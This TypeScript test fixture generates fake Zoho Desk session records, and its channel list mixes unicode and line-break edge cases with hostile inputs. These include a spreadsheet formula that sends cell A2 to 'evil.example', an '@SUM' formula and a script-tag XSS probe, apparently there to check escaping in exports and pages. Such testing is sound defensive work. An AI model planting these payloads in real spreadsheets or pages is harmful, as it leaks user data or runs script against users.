import type { SessionRecord } from "zoho-desk-client/schemas/SessionRecord";

const statuses = ["ENDED", "ENDED", "ENDED", "MISSED", "ON_PROGRESS"] as const;
const agents = ["900719925474099301", "900719925474099303", null, "900719925474099307"] as const;

/** Texts of customers, who know what spreadsheets and pages do with them. */
const channels = [
  "WHATSAPP",
  '=HYPERLINK("https://evil.example/?leak="&A2,"open")',
  'Café "Ünï", 🦊',
  "two\r\nlines\u2028and a third",
  "@SUM(1+1)",
  "<script>alert(1)</script>",
] as const;

/** So many sessions of March 2026, spread over as many days, in the order in which they began. No double holds one of their ids. */
export function makeSessions(count: number, days: number): SessionRecord[] {
  return Array.from({ length: count }, (_, index) => {
    const start = Date.UTC(2026, 2, 1) + Math.floor((index * days * 86_400_000) / count);
    const status = statuses[index % statuses.length]!;
    const isOver = status !== "ON_PROGRESS";
    return {
      sessionId: String(189_200_000_120_400_001n + 2n * BigInt(index)),
      departmentId: "189200000000006907",
      agentId: agents[index % agents.length]!,
      contactId: index % 3 ? String(189_200_000_900_000_001n + BigInt(index)) : null,
      ticketId: null,
      channel: channels[index % channels.length]!,
      status,
      startTime: new Date(start).toISOString(),
      endTime: isOver ? new Date(start + 600_000).toISOString() : null,
      durationInSeconds: isOver ? 600 : null,
      messageCount: index % 40,
      agentMessageCount: index % 17,
      webUrl: index % 5 ? null : `https://desk.zoho.com/agent/northwind/support/sessions/${index}`,
    };
  });
}
